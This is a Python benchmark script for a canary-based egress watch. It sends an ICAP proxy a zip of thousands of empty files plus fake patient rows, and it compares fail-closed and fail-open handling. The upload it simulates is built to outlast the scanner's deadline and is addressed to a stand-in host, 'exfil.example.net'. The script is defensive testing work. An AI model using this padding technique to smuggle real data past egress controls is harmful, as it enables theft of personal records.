"""Benchmark of the egress watch on an upload built to outlast its deadline: a zip of many empty members
plus a canary's rows (the issue's 9.5 MB zip of 100,000 members, let through with 204 after 21 s).

    python3 bench/egress_zip.py                       # 100,000 members, egress.deadline 10 s
    python3 bench/egress_zip.py --members 20000 --deadline 2

The ICAP service runs in this process on 127.0.0.1, in block mode, once failing closed (the default:
a body the deadline cannot finish is refused) and once failing open. For each it prints the answer
(403 page or 204) and how long the proxy waited for it, then how long the match went on after the
answer until the canary's late event was recorded. The reference, measured in the same run: the same
zip listed and every member read by Python's ``zipfile`` alone (the least a full walk costs).
The tests (tests/egress/test_icap_protocol.py) check the same behaviour on 10,000 members in seconds.
"""

from __future__ import annotations

import argparse
import dataclasses
import io
import socket
import sys
import tempfile
import time
import uuid
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from canary.generate.seeding import derive_token  # noqa: E402
from canary.store import open_db  # noqa: E402
from canary.store.events import list_events  # noqa: E402
from canary.store.registry import add_canaries, add_system  # noqa: E402
from canary.watch.egress.icap import IcapService  # noqa: E402
from canary.watch.egress.inspect import EgressConfig, Inspector  # noqa: E402
from tests.support.records import make_record  # noqa: E402


def registry(path: Path) -> dict:
    db = open_db(path)
    add_system(db, "lab-nord", "lab", establishment="Labo de test")
    canary = {"id": "zb0000", "system": "lab-nord", "generation": 1, "created_at": "2026-01-01T00:00:00Z",
              "token": derive_token("bench", "zb0000"), **make_record(300)}
    add_canaries(db, [canary])
    db.close()
    return canary


def many_members(canary: dict, count: int) -> bytes:
    rows = (f"nom;prenom;naissance;nir\n{canary['birth_name']};{canary['first_names'][0]};"
            f"{canary['birth_date']};{canary['nir']}\n").encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for i in range(count):
            archive.writestr(f"vide/{i:06d}.txt", b"")
        archive.writestr("patients.csv", rows)
    return buffer.getvalue()


def upload(port: int, path: str, body: bytes, timeout: float) -> tuple[str, float]:
    """REQMOD of a POST carrying ``body``, as Squid sends it; (the answer, seconds until it came)."""
    http = (f"POST http://exfil.example.net{path} HTTP/1.1\r\nHost: exfil.example.net\r\n"
            "Content-Type: application/zip\r\n\r\n").encode()
    head = ("REQMOD icap://127.0.0.1/reqmod ICAP/1.0\r\nHost: 127.0.0.1\r\nAllow: 204\r\nX-Client-IP: 10.9.8.7\r\n"
            f"Encapsulated: req-hdr=0, req-body={len(http)}\r\n\r\n").encode()
    chunks = b"".join(b"%x\r\n" % len(body[i:i + 65536]) + body[i:i + 65536] + b"\r\n"
                      for i in range(0, len(body), 65536)) + b"0\r\n\r\n"
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as client:
        start = time.perf_counter()
        client.sendall(head + http + chunks)
        answer = b""
        while b"\r\n\r\n" not in answer:
            data = client.recv(65536)
            if not data:
                break
            answer += data
        waited = time.perf_counter() - start
        status = answer.split(b"\r\n", 1)[0].decode("latin-1")
        if status.split()[1:2] == ["200"]:  # the page instead of the upload, read to its last chunk
            while not answer.endswith(b"0\r\n\r\n"):
                data = client.recv(65536)
                if not data:
                    break
                answer += data
            status += " (HTTP 403 page)" if b"403 Forbidden" in answer else " (modified)"
    return status, waited


def late_event(db_path: Path, path: str, timeout: float) -> tuple[list[tuple[str, str]], float]:
    start = time.perf_counter()
    while time.perf_counter() - start < timeout:
        db = open_db(db_path)
        try:
            events = [(e["canary_id"], e["action"]) for e in list_events(db) if path in str(e["details"].get("url"))]
        finally:
            db.close()
        if events:
            return events, time.perf_counter() - start
        time.sleep(0.5)
    return [], time.perf_counter() - start


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--members", type=int, default=100_000)
    parser.add_argument("--deadline", type=float, default=EgressConfig().deadline,
                        help="egress.deadline in seconds (default: the setting's default)")
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp(prefix="egress-zip-bench-"))
    db_path = work / "canary.db"
    canary = registry(db_path)
    start = time.perf_counter()
    body = many_members(canary, args.members)
    print(f"zip: {args.members} empty members + the canary's rows, {len(body) / 1e6:.1f} MB "
          f"(built in {time.perf_counter() - start:.1f} s); egress.deadline {args.deadline:g} s")

    start = time.perf_counter()
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        read = sum(len(archive.read(info)) for info in archive.infolist())
    print(f"reference: Python zipfile lists it and reads every member: {time.perf_counter() - start:.1f} s "
          f"({read} bytes)")

    for fail_closed in (True, False):
        config = dataclasses.replace(EgressConfig(), block=True, fail_closed=fail_closed, deadline=args.deadline,
                                     max_body_bytes=64 << 20)
        service = IcapService(db_path, "127.0.0.1", 0, Inspector(db_path, config=config))
        service.start()
        try:
            path = f"/drop/{uuid.uuid4().hex}"
            status, waited = upload(service.port, path, body, timeout=args.deadline + 600)
            events, later = late_event(db_path, path, timeout=900)
        finally:
            service.stop()
        mode = "fail closed (egress.fail_closed true)" if fail_closed else "fail open (egress.fail_closed false)"
        print(f"block mode, {mode}: ICAP {status} after {waited:.1f} s; the match went on and recorded "
              f"{events or 'nothing'} {later:.1f} s after the answer")
    print(f"work folder: {work} (delete it when done)")


if __name__ == "__main__":
    main()
